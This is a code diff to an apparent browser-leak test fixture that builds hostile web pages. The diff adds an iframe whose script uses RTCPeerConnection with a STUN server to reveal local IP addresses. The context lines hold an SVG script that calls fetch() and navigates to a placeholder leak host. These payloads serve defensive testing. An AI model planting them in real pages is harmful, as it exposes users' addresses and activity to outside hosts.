@@ -16,6 +16,7 @@ def _filled(text, live, interface):
         ("LEAKHOST", live.host),
         ("LEAK", f"http://{live.host}"),
         ("STUN", live.stun),
+        ("HOST", HOST),
         ("UI", interface),
     )
     for name, value in pairs:
@@ -37,6 +38,9 @@ def hostile(tmp_path_factory):
         headers = [(key, _filled(value, live, interface)) for key, value in HEADERS.get(name, [])]
         page = f"<!doctype html><html><head></head><body>{_filled(text, live, interface)}</body></html>"
         builder.add(f"{HOST}/{name}", page, headers=headers)
+    call = "p=new RTCPeerConnection({iceServers:[{urls:'stun:STUN'}]});p.createDataChannel('a')"
+    fragment = f'<iframe srcdoc="<script>{call};p.createOffer().then(o=>p.setLocalDescription(o))</script>"></iframe>'
+    builder.add(f"{HOST}/fragment", _filled(fragment, live, interface))
     script = '<script>location="LEAK/svg";fetch("LEAK/f")</script><image href="LEAK/i"/>'
     drawing = f'<svg xmlns="http://www.w3.org/2000/svg">{script}</svg>'
     builder.add(f"{HOST}/drawing", _filled(drawing, live, interface), "image/svg+xml")
